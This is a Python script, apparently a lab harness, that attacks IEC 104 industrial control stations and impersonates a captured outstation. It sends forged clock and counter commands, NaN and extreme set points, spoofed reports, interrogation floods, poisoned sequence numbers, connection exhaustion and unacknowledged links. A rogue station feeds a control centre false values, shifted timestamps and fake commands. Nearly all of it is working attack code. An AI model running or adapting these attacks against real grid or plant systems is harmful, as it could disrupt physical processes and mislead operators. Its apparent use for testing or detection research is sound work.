"""Who tampers with clocks, counters, set points, numbers and links of IEC 104: `tampering.py intruder|station|centre`.

`intruder` does it to a station of c104. `station` is a station that somebody has taken over, made by hand, and `centre` the
control centre (c104) that believes it. Every loop is bounded.
"""

import datetime
import math
import socket
import struct
import sys
import threading
import time

import c104

import plan
from control import start, wait_until
from injection import Link, asdu
from intruder import STARTDT_ACT, TESTFR_ACT, hang_up

NORTH, EAST, SOUTH = (ip for ip, _ in plan.STATIONS.values())
CENTRE = "10.20.0.10"
STOPDT_ACT = bytes.fromhex("680413000000")
STARTDT_CON, TESTFR_CON = bytes.fromhex("68040b000000"), bytes.fromhex("680483000000")
SILENCE = 75  # seconds in which a cyclic report should come
PERIODIC, SPONTANEOUS, ACTIVATION, CONFIRMATION = 1, 3, 6, 7
QUALITIES = (0x80, 0x40, 0x20, 0x10)  # invalid, not topical, substituted, blocked


def cp56(moment: datetime.datetime) -> bytes:
    """CP56Time2a."""
    return struct.pack(
        "<HBBBBB", moment.second * 1000, moment.minute, moment.hour, moment.day, moment.month, moment.year % 100
    )


def shifted(**by: int) -> bytes:
    return cp56(datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(**by))


def tamper() -> None:
    link = Link(NORTH)
    for time_tag in (shifted(days=-400, minutes=7), shifted(days=400, minutes=7)):
        link.ask(103, 11, 0, time_tag)  # the clock
    for freeze in (1, 2, 3):
        link.ask(101, 11, 0, bytes((freeze << 6 | 5,)))  # counters: freeze, freeze and reset, reset
    for value in (math.nan, math.inf):
        link.ask(50, 11, 5303, struct.pack("<fB", value, 0))
    for step in range(12):
        link.ask(50, 11, 5303, struct.pack("<fB", (-1) ** step * (1000.0 + step), 0))
    link.ask(49, 11, 5302, struct.pack("<hB", 32767, 0))
    for kind, element in ((1, b"\1"), (13, struct.pack("<fB", 20.0, 0))):
        link.ask(kind, 11, 2101, element, cause=SPONTANEOUS)  # a report, from this side
    link.close()


def flood() -> None:
    """Counter interrogations, as their answers are short."""
    link = Link(EAST)
    link.socket.sendall(b"".join(link.apdu(asdu(101, 21, 0, b"\5", ACTIVATION)) for _ in range(10)))
    link.read()
    for _ in range(14):
        link.ask(101, 21, 0, b"\5")
    link.close()


def stop_and_start() -> None:
    link = Link(EAST)
    for _ in range(4):
        link.send(STOPDT_ACT)
        link.send(STARTDT_ACT)
    link.close()


def poison() -> None:
    """Numbers that cannot be: of I-frames ahead, of one that was there, of none that came."""
    command = asdu(45, 21, 5002, b"\0")
    for sent, received in (((0, 3), 0), ((0, 9000), 0), ((0, 0), 0), ((0,), 700)):
        link = Link(EAST)
        for number in sent:
            link.send(struct.pack("<BBHH", 0x68, 4 + len(command), number << 1, received << 1) + command)
            command = command[:-1] + bytes((command[-1] ^ 1,))
        link.close()


def starve() -> None:
    """Connections that do nothing but live."""
    links = [socket.create_connection((EAST, plan.IEC104_PORT), timeout=2) for _ in range(8)]
    for _ in range(2):
        for link in links:
            link.sendall(TESTFR_ACT)
            link.recv(255)
        time.sleep(0.5)
    for link in links:
        hang_up(link)


def never_acknowledge() -> None:
    """A started link whose reports are not acknowledged, until the station hangs up."""
    with socket.create_connection((NORTH, plan.IEC104_PORT), timeout=20) as link:
        link.sendall(STARTDT_ACT)
        while link.recv(4096):
            pass


class Captured:
    """The station that somebody has taken over, to one client."""

    def __init__(self, link: socket.socket) -> None:
        self.link = link
        self.sent = self.received = 0
        self.unread = b""

    def report(self, kind: int, objects: list[tuple[int, bytes]], cause: int = SPONTANEOUS, skip: int = 0) -> None:
        body = struct.pack("<BBBBH", kind, len(objects), cause, 0, 31)
        body += b"".join(ioa.to_bytes(3, "little") + element for ioa, element in objects)
        self.say(body, skip)

    def say(self, body: bytes, skip: int = 0) -> None:
        self.sent += skip
        self.link.sendall(struct.pack("<BBHH", 0x68, 4 + len(body), self.sent << 1, self.received << 1) + body)
        self.sent += 1

    def serve(self, seconds: float) -> None:
        """Answers what keeps a link alive; interrogations and clocks are confirmed, commands are not."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            self.link.settimeout(left)
            try:
                octets = self.link.recv(4096)
            except TimeoutError:
                return
            if not octets:
                return
            self.unread += octets
            while len(self.unread) >= 2 and len(self.unread) >= (end := 2 + self.unread[1]):
                self.answer(self.unread[:end])
                self.unread = self.unread[end:]

    def answer(self, apdu: bytes) -> None:
        if apdu == STARTDT_ACT:
            self.link.sendall(STARTDT_CON)
        elif apdu == TESTFR_ACT:
            self.link.sendall(TESTFR_CON)
        elif apdu[2] & 1 == 0:
            self.received += 1
            if apdu[6] == 100:
                self.say(apdu[6:8] + bytes((CONFIRMATION,)) + apdu[9:])

    def lie(self) -> None:
        self.serve(1.5)  # the start and an interrogation
        for _ in range(3):
            self.report(13, [(2101, struct.pack("<fB", 20.7, 0))], cause=PERIODIC)
            self.serve(0.5)
        # A single point each, with time: of a day ago, of a year ahead.
        self.report(30, [(1003, b"\1" + shifted(days=-1, minutes=-7))])
        self.report(30, [(1003, b"\0" + shifted(days=365, minutes=7))])
        # Measured values in bulk, with each quality in turn.
        for quality in QUALITIES:
            self.report(13, [(2100 + number, struct.pack("<fB", 0.0, quality)) for number in range(1, 7)])
        # Commands, from this side.
        self.report(45, [(5001, b"\1")], cause=ACTIVATION)
        self.report(46, [(5101, b"\1")], cause=ACTIVATION)
        self.link.sendall(STOPDT_ACT)
        self.serve(SILENCE)


def run_station(seconds: float) -> None:
    with socket.create_server((SOUTH, plan.IEC104_PORT), backlog=20) as server:
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            server.settimeout(left)
            try:
                link, (peer, _) = server.accept()
            except TimeoutError:
                return
            threading.Thread(target=deceive, args=(link, peer), daemon=True).start()


def deceive(link: socket.socket, peer: str) -> None:
    with link:
        captured = Captured(link)
        try:
            captured.lie() if peer == CENTRE else captured.serve(30)
        except OSError:
            pass  # the other end has gone


def run_centre() -> None:
    """Asks for everything, commands once, and waits."""
    client = c104.Client(tick_rate_ms=50, command_timeout_ms=2000)
    link = plan.connect_muted(client, SOUTH)
    point = link.add_station(31).add_point(5001, plan.T.C_SC_NA_1)
    client.start()
    wait_until(lambda: link.is_connected, "the link")
    start(link)
    link.interrogation(31, wait_for_response=False)
    time.sleep(0.7)
    point.value = True
    point.transmit(c104.Cot.ACTIVATION)  # nobody answers
    time.sleep(SILENCE)
    client.stop()


def attack() -> None:
    thread = threading.Thread(target=never_acknowledge)
    thread.start()
    for step in (tamper, flood, stop_and_start, poison, starve):
        step()
    thread.join()


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["intruder"]:
            attack()
        case ["station", seconds]:
            run_station(float(seconds))
        case ["centre"]:
            run_centre()
